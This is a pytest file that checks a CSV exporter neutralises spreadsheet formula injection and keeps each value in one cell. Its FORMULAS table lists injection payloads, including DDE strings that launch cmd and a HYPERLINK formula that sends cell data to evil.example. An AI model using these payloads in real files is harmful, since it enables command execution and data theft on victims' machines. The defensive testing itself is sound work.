"""A cell of a list as CSV is never a formula, and never more than one cell."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rbank_es.cli import main
from rbank_es.errors import BadInput
from rbank_es.exchange.csv_text import FORMULA_BEGINS, SEPARATORS, csv_cell, csv_of, csv_rows
from tests.attacks.hostile_text import hostile_bank, steering
from tests.effort import one_in

FORMULAS = {
    "command": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage": "\r=1+1",
    "newline": "\n=1+1",
    "space": "  =1+1",
    "no-break-space": "\u00a0=1+1",
    "full-width": "\uff1d1+1",
    "quoted": '"=1+1',
    "separator": 'x";=1+1;"',
    "new-row": 'x"\n"=1+1',
}


@pytest.mark.parametrize("text", one_in(4, FORMULAS.values()), ids=FORMULAS)
def test_a_formula_is_a_text_in_every_cell(
    text: str, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    hostile_bank(tmp_path / "b", text).log.close()
    for command in ("runs", "items"):
        assert main([command, str(tmp_path / "b"), "--csv"]) == 0
        printed = capsysbinary.readouterr().out.decode()
        header, *rows = csv.reader(io.StringIO(printed, newline=""))
        assert len(rows) == 1 and len(rows[0]) == len(header)
        assert not any(cell.strip(" \u00a0").startswith(tuple(FORMULA_BEGINS)) for cell in rows[0]), rows


@given(st.text(max_size=30))
def test_any_text_is_one_cell_that_is_no_formula(text: str) -> None:
    made = csv_of(["a", "b"], [{"a": text, "b": 1}])
    [_, row] = csv.reader(io.StringIO(made, newline=""))
    assert len(row) == 2 and row[1] == "1"
    assert not row[0].strip(" \u00a0").startswith(tuple(FORMULA_BEGINS)) and not steering(made)


def test_numbers_stay_numbers() -> None:
    assert [csv_cell(value) for value in (-1, 2.5, None, True, ["a", "b"])] == [-1, 2.5, "", "yes", "a; b"]


ROWS = [
    {"run": "r;1", "verdict": "failure", "reason": "Dark, half\tof it | again"},
    {"run": "r-2", "verdict": "success"},
]


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("end", ["\n", "\r\n"])
@pytest.mark.parametrize("first", ["", "sep={}"])
def test_csv_is_read_with_the_separator_of_any_country(separator: str, end: str, first: str) -> None:
    """With a line that names the separator, and with the empty rows that spreadsheets leave."""
    text = io.StringIO()
    writer = csv.DictWriter(text, ["run", "verdict", "reason"], delimiter=separator, lineterminator=end)
    writer.writeheader()
    writer.writerows(ROWS)
    begin = first.format(separator) + (end if first.startswith("sep") else "")
    made = f"{begin}{text.getvalue()}{separator * 2}{end}{separator * 4}{end}"
    assert [row for _, row in csv_rows(made, ("run", "verdict", "reason", "by"))] == ROWS


def test_headers_that_no_separator_splits_are_refused_with_the_separators() -> None:
    for text, unknown in (("run:verdict\nr:success\n", "run:verdict"), ("run;verdit\n", "verdit")):
        with pytest.raises(BadInput, match=f"no field is called '{unknown}'.*comma, semicolon, tab"):
            list(csv_rows(text, ("run", "verdict")))
